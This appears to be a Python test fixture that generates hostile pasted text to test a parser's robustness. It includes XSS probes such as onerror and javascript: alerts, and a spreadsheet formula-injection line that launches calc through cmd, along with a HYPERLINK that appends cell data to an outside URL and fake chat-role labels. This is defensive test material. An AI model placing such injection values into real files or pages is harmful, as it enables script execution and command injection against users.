"""Hostile-looking text: what people paste that a careless screen, file or parser trips over."""

from __future__ import annotations

from demonstration.quotas import Hostility

#: Characters a very long turn has at least.
LONG_TURN = 24_000

_FAMILY = "\U0001f469\u200d\U0001f469\u200d\U0001f467"
_FLAG_OF_SCOTLAND = "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"
_PASTED = {
    Hostility.HTML: """

<h1>Draft</h1><p style="color:red">It <b>really</b> gave me this &amp; I pasted it</p>
<img src=x onerror="alert(1)"><table><tr><td>1</td></tr></table>""",
    Hostility.MARKDOWN: """

# Plan

* **first** _this_
* ~~then~~ [that](javascript:alert(1))

| a | b |
|---|---|
| 1 | 2 |

```python
print('hello')
```
$E = mc^2$ :red[no] :material/home:""",
    Hostility.SCRIPT: (
        "\n\n<script>document.title='x';alert(document.cookie)</script></div></body>"
        '<svg/onload=alert(2)><a href="javascript:alert(3)">look</a>'
    ),
    Hostility.RIGHT_TO_LEFT: (
        " \u202eti daer uoy fi sdrawkcab si siht\u202c and \u2067right to left\u2069"
        " then \u200fback again\u200e."
    ),
    Hostility.ZERO_WIDTH: (
        " copied from the web: in\u200bvis\u200cib\u200dle\ufeff spa\u2060ces,"
        f" a com\u0301bining accent, family {_FAMILY} and a flag {_FLAG_OF_SCOTLAND}."
    ),
    Hostility.FORMULA: (
        '\n=HYPERLINK("https://example.com/?"&A1,"open")\n+1+1\n-2+3\n@SUM(A1:A9)'
        "\n\t=cmd|' /C calc'!A0"
    ),
    Hostility.LABELS: (
        "\n\nUser: that is how the export looked\n\nAI: with our names in front"
        "\n\nAssistant: of every line\n\n\u2028end"
    ),
    Hostility.LONG: " and then it went on",
}


def hostile_text(kind: Hostility) -> str:
    """What a participant pastes after their answer."""
    text = _PASTED[kind]
    return text * (LONG_TURN // len(text) + 1) if kind is Hostility.LONG else text
